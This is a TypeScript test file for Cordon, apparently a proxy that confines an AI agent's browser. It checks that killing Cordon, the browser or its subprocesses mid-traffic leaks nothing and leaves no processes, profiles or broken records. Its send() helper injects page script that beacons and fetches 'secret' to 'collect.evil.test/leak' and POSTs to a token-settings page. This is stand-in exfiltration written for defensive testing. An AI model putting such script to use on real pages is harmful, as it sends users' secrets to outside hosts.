/** Every part of Cordon killed while a page sends without pause, judged by what servers received and by what is left on the machine. */
import { existsSync, readFileSync, readlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { verifyChain } from '../src/record/chain.ts';
import { type Served, serve } from './cli-process.ts';
import { type GuardedSite, startGuardedSite } from './guarded-site.ts';
import { allGone, commandOf, descendants } from './support/processes.ts';

const ISSUE = 'https://forge.test/johannr-dev/agent/-/issues/30';
const DENIED = '/-/user_settings/personal_access_tokens';
let site: GuardedSite;
/** A server on this machine that nothing may reach; whoever went past the proxy would. */
let direct: Server;
let reached = 0;
let served: Served | undefined;
let browser: Browser | undefined;
let count = 0;

beforeAll(async () => {
  site = await startGuardedSite();
  direct = createServer((_, response) => {
    reached += 1;
    response.end();
  });
  await new Promise<void>((resolve) => direct.listen(0, '127.0.0.1', resolve));
});
afterEach(async () => {
  await browser?.close().catch(() => undefined);
  await served?.stop('SIGKILL');
});
afterAll(async () => {
  await new Promise((resolve) => direct.close(resolve));
  await site.close();
});

/** A guarded page that sends, in every way at hand and without pause, what is allowed and what is not. */
async function busyPage(): Promise<{ readonly served: Served; readonly page: Page }> {
  count += 1;
  const record = join(site.folder, `record-${count}.jsonl`);
  const task = 'Look after issue 30 on forge.test';
  served = await serve(['--policy', site.policy, '--task', task, '--yes', '--record', record]);
  browser = await chromium.connectOverCDP(served.cdp);
  const [context] = browser.contexts();
  const page = context?.pages()[0] ?? (await context?.newPage());
  if (page === undefined) throw new Error('no page');
  await page.goto(ISSUE);
  await send(page);
  await expect.poll(() => readFileSync(record, 'utf8')).toContain('personal_access_tokens');
  return { served, page };
}

async function send(page: Page): Promise<void> {
  const { port } = addressOf(direct);
  await page.evaluate(
    ({ denied, away }) => {
      const busy = (): void => {
        void fetch(`/?n=${Math.random()}`).catch(() => undefined);
        void fetch(denied, { method: 'POST', body: 'name=x' }).catch(() => undefined);
        for (const url of away) {
          navigator.sendBeacon(url, 'secret');
          new Image().src = url;
          void fetch(url, { mode: 'no-cors', keepalive: true }).catch(() => undefined);
        }
        try {
          new WebSocket(`ws://${away[0]?.slice('http://'.length)}`);
        } catch {
          // Too many already.
        }
      };
      setInterval(busy, 20);
      addEventListener('pagehide', busy);
    },
    { denied: DENIED, away: [`http://127.0.0.1:${port}/direct`, 'https://collect.evil.test/leak'] },
  );
}

function addressOf(server: Server): AddressInfo {
  const address = server.address();
  if (typeof address !== 'object' || address === null) throw new Error('the server does not listen');
  return address;
}

/** Nothing arrived that was not allowed: by what the servers say. */
function expectNothingPassed(): void {
  expect(site.sites.logs.attacker).toEqual([]);
  expect(JSON.stringify(site.sites.logs.forge)).not.toContain('token');
  expect(reached).toBe(0);
}

function profileOf(pids: readonly number[]): string {
  const [, profile] = /--user-data-dir=(\S+)/.exec(pids.map(commandOf).join(' ')) ?? [];
  if (profile === undefined) throw new Error('no browser is running');
  return profile;
}

/** Chromium's own, beside the profile. */
function socketFolderOf(profile: string): string {
  return dirname(readlinkSync(join(profile, 'SingletonSocket')));
}

async function expectNothingLeft(pids: readonly number[], ...folders: readonly string[]): Promise<void> {
  expect(await allGone(pids)).toBe(true);
  await expect.poll(() => folders.filter(existsSync), { timeout: 20_000 }).toEqual([]);
}

it.each([0, 500])(
  'Cordon killed %i ms into the traffic leaves no request, process or profile, and a whole record',
  async (ms) => {
    const { served: cordon, page } = await busyPage();
    const started = descendants(cordon.child.pid ?? 0);
    const profile = profileOf(started);
    const socket = socketFolderOf(profile);
    await page.waitForTimeout(ms);
    await cordon.stop('SIGKILL');
    await expectNothingLeft(started, profile, socket);
    const wire = site.sites.logs.wire.length;
    expectNothingPassed();
    const chain = verifyChain(readFileSync(cordon.record, 'utf8'));
    expect(chain.broken).toBeUndefined();
    expect(chain.lines).toBeGreaterThan(2);
    expect(site.sites.logs.wire.length).toBe(wire);
  },
);

it('a profile that a killed Cordon could not even leave to its watchdog goes with the next start', async () => {
  const { served: cordon } = await busyPage();
  const started = descendants(cordon.child.pid ?? 0);
  const profile = profileOf(started);
  for (const pid of started.filter((each) => commandOf(each).includes('cordon-watchdog'))) process.kill(pid, 'SIGKILL');
  await cordon.stop('SIGKILL');
  expect(await allGone(started)).toBe(true);
  expect(existsSync(profile)).toBe(true);
  await busyPage();
  expect(existsSync(profile)).toBe(false);
  expectNothingPassed();
});

it('the browser killed ends Cordon, and nothing is left', async () => {
  const { served: cordon } = await busyPage();
  const started = descendants(cordon.child.pid ?? 0);
  const profile = profileOf(started);
  const socket = socketFolderOf(profile);
  const main = started.find((pid) => commandOf(pid).includes(profile) && !commandOf(pid).includes('--type='));
  process.kill(main ?? 0, 'SIGKILL');
  expect(await cordon.exited).toBe(3);
  await expectNothingLeft(started, profile, socket);
  expectNothingPassed();
  expect(readFileSync(cordon.record, 'utf8')).toContain('session.closed');
});

it.each([
  ['network service', '--utility-sub-type=network.mojom.NetworkService'],
  ['GPU process', '--type=gpu-process'],
])('the browser’s %s killed comes back behind the proxy', async (_, mark) => {
  const { served: cordon, page } = await busyPage();
  const victims = descendants(cordon.child.pid ?? 0).filter((pid) => commandOf(pid).includes(mark));
  for (const pid of victims) process.kill(pid, 'SIGKILL');
  await expect.poll(() => page.goto(ISSUE).then((answer) => answer?.status(), String), { timeout: 20_000 }).toBe(200);
  await send(page);
  await page.goto(`${ISSUE}?again`);
  expectNothingPassed();
});

it('a renderer killed takes its page along, and the next one is guarded from its start', async () => {
  const { served: cordon, page } = await busyPage();
  const crashed = page.waitForEvent('crash');
  const renderers = descendants(cordon.child.pid ?? 0).filter((pid) => commandOf(pid).includes('--type=renderer'));
  for (const pid of renderers) process.kill(pid, 'SIGKILL');
  await crashed;
  const next = await page.context().newPage();
  await next.goto(ISSUE);
  await next.evaluate(() =>
    document.body.insertAdjacentHTML('beforeend', '<button id="gone">Delete my account</button>'),
  );
  expect(await next.content()).not.toContain('Delete my account');
  await send(next);
  await next.goto(`${ISSUE}?again`);
  expectNothingPassed();
});
